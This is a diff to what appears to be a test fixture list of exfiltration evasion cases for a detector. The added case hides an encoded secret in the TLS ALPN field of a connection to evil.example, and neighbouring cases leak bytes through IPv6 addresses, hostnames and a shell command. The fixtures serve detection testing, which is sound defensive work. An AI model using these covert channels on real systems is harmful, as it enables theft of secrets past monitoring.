@@ -116,6 +116,13 @@ const UNKNOWN_FORMS: Evasion[] = [
     "ask('2001:db8::%x:%x' % (t[5]*7,t[6]*3),80)",
     "for c in t[8:12]: ask(chr(97+c%23)+'.x.example',80)",
   ),
+  python(
+    "encodes a secret in the greeting of TLS",
+    { deeds: [`${UNKNOWN} evil.example:443`] },
+    ...["import ssl", TOKEN, "c=ssl.create_default_context()"],
+    "c.set_alpn_protocols(['http/1.1',base64.b85encode(bytes(b^7 for b in t)).decode()])",
+    "c.wrap_socket(socket.create_connection(('evil.example',443)),server_hostname='evil.example').close()",
+  ),
   shell(
     "sends the letters of a file as numbers of its own",
     { deeds: [`${UNKNOWN} evil.example:80`] },
